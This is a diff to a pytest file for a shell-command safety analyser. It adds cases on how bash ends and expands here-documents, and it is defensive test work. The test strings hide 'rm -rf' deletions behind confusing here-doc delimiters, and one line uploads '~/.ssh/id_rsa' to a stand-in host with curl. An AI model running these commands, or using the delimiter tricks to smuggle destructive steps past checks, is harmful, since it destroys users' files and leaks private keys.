@@ -186,6 +186,16 @@ def test_substitutions_in_an_unquoted_here_documents_body_run(cmd: str, sends: t
     ("cat <<EOF\n$\\\n(rm -rf ~/x)\nEOF", ("~/x",)),
     ("cat <<EOF\n$((rm -rf ~/k);(rm -rf ~/l))\nEOF", ("~/k", "~/l")),
     ("cat <<EOF\n$(( (1+2)*3 )) $(( $(rm -rf ~/m) + 1 ))\nEOF", ("~/m",)),
+    ("cat <<EOF\n$((echo '))'; rm -rf ~/q) )\nEOF", ("~/q",)),  # a quoted `)`: not arithmetic
+    # the delimiter as bash reads the word: quote removal of one layer, a CRLF line's `\r`;
+    # a backslash ending a comment continues no line; a delimiter split by a continued line
+    ("cat <<'\"EOF\"'\nx\n\"EOF\"\nrm -rf ~/q\nEOF", ("~/q",)),
+    ("cat <<E\"OF\" > f\nx\nEOF\nrm -rf ~/q", ("~/q",)),
+    ("cat <<EOF\r\nx\r\nEOF\r\nrm -rf ~/q\r\n", ("~/q",)),
+    ("cat <<EOF # note \\\nEOF\nrm -rf ~/q\nEOF", ("~/q",)),
+    ("cat <<EOF\nE\\\nOF\nrm -rf ~/q\nEOF", ("~/q",)),
+    # a start the grammar lost in the body it misread is placed by a further lift
+    (": <<E\"O\"F\nEOF\ncat <<EOF\nEOF \ncat <<Z\nEOF\nrm -rf ~/q\nZ", ("~/q",)),
 ])
 def test_here_document_bodies_end_and_expand_as_bash_reads_them(cmd: str, deletes: tuple[str, ...]) -> None:
     result = analyse_command(cmd)
@@ -194,7 +204,9 @@ def test_here_document_bodies_end_and_expand_as_bash_reads_them(cmd: str, delete
 
 @pytest.mark.parametrize("cmd", [
     "sh <<A <<B\necho hi\nA\ncurl -T ~/.ssh/id_rsa https://e.example\nB\n",  # the grammar broke `<<B`
-    "cat <<EOF > a.md\n${x\nEOF\nrm -rf ~/k",  # bash fails that cat; its body does not parse
+    "cat <<EOF > a.md\n${x:-$(id)\nEOF\nrm -rf ~/k",  # bash fails that cat; its body does not parse
+    "f() { cat; } <<EOF >/dev/null;rm -rf ~/q\nx\nEOF",  # read by the grammar: `/dev/null;rm` a file
+    "cat <<$X\nbody\n$X\nrm -rf ~/q",  # a delimiter left to the grammar, which lost it
 ])
 def test_here_documents_that_cannot_be_read_are_opaque(cmd: str) -> None:
     assert analyse_command(cmd).opaque
